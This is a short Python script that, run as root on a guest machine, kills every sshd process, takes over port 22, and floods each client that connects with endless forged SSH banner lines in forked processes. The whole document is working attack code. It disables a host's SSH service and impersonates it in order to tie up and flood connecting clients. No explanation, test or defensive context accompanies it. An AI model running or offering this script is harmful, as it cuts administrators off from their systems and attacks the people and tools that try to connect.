# Run as root of a guest: ends its sshd and floods whoever connects in its place.
import os, signal, socket


def end_sshd():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if open("/proc/%s/comm" % pid).read().startswith("sshd"):
                os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass


listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
while True:
    try:
        listener.bind(("0.0.0.0", 22))
        break
    except OSError:
        end_sshd()
listener.listen(16)
end_sshd()
while True:
    client, _ = listener.accept()
    if os.fork() == 0:
        try:
            while True:
                client.sendall(b"SSH-2.0-forged" + b"x" * 200 + b"\r\n")
        except OSError:
            os._exit(0)
    client.close()
